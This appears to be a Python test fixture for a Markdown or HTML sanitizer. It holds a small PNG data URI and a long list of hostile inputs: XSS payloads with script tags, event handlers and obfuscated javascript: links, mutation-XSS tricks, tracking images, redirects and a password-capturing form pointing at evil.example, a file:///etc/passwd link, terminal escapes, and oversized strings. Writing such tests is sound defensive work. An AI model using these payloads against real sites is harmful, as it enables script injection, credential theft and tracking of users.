"""A picture; and Markdown that means harm."""

import base64

PNG = (
    "data:image/png;base64,"
    + base64.b64encode(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc00000030101"
            "00c9fe92ef0000000049454e44ae426082"
        )
    ).decode()
)


MALICIOUS = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "<svg onload=window.harmed=1><script>window.harmed=1</script></svg>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<a href='javascript:window.harmed=1' id='harm-link'>click</a>",
    "[click](javascript:window.harmed=1)",
    "[click](JaVaScRiPt:window.harmed=1)",
    "[click](java\nscript:window.harmed=1)",
    "[click](&#106;avascript:window.harmed=1)",
    "[click](data:text/html,<script>window.harmed=1</script>)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](/api/sessions:delete)",
    "[click](//evil.example/)",
    "[click]: javascript:window.harmed=1\n\n[click]",
    "<javascript:window.harmed=1>",
    "![x](javascript:window.harmed=1)",
    "![x](https://evil.example/track.png)",
    '![x](https://evil.example/track.png "t" onerror="window.harmed=1)',
    '![" onerror="window.harmed=1](https://evil.example/x.png)',
    "![x](data:image/svg+xml,<svg onload=window.harmed=1>)",
    "[![x](https://evil.example/x.png)](https://evil.example/y)",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0' class='dialog' id='main'>You were logged out</div>",
    "<details open ontoggle=window.harmed=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.harmed=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.harmed=1>'>",
    "```html onload=window.harmed=1\n<script>window.harmed=1</script>\n```",
    '```"><img/src=x/onerror=window.harmed=1>\nx\n```',
    '```python\n"</span></pre><script>window.harmed=1</script>"\n```',
    "`<script>window.harmed=1</script>`",
    "$<img src=x onerror=window.harmed=1>$",
    "\\(</code><script>window.harmed=1</script>\\)",
    '| <script>window.harmed=1</script> | x |\n|:-|"onclick=window.harmed=1:|\n| a | b |',
    "# <script>window.harmed=1</script>",
    'https://evil.example/"onmouseover=window.harmed=1',
    '<https://evil.example/"onmouseover=window.harmed=1>',
    "\ud800<script>window.harmed=1</script>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "<!--><script>window.harmed=1</script>-->",
    "<xss-element contenteditable onfocus=window.harmed=1 tabindex=1>x",
    "&lt;script&gt;window.harmed=1&lt;/script&gt;",
    "[click](blob:https://evil.example/1) [click](filesystem:https://evil.example/1) [click](view-source:x)",
    "[click](\x01javascript:window.harmed=1) [click](java\tscript:window.harmed=1) [click](<java\x00script:x>)",
    "![x][r] ![r]\n\n[r]: https://evil.example/x.png 'onload=window.harmed=1'",
    "![x](blob:https://evil.example/1) ![x](//evil.example/x.png) ![x](https://) ![x](https://[)",
    "<a id=composer name=main target=_top href=https://evil.example/>click</a>",
    "# Log in {#main .dialog style='position: fixed; inset: 0; z-index: 9'}",
    "[x](https://evil.example/){.skip target=_top}",
    "```main {#main .toasts style=position:fixed}\nx\n```",
    "<div style='background: url(https://evil.example/x.png)' class='toasts notices'>x</div>",
    "<svg><use href='https://evil.example/x.svg#a'/><image href=https://evil.example/x.png /></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:window.harmed=1'>click</maction></math>",
    "<dialog open><form method=dialog><input autofocus></form></dialog><button popovertarget=main>x</button>",
    "<template><img src=x onerror=window.harmed=1></template><object data=https://evil.example/></object>",
    "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 \x1b[2J\x1b[31mred\x9b0m",
    "<\x00script>window.harmed=1</script> <scr\u00adipt>window.harmed=1</script>",
    "pay \u202eyenom eht\u202c \u2067now",
    "a" + "\u0301" * 3_000,
    "> " * 300 + "deep",
    "- " * 300 + "deep",
    "x" * 50_000,
    "```\n" + "y" * 50_000 + "\n```",
]
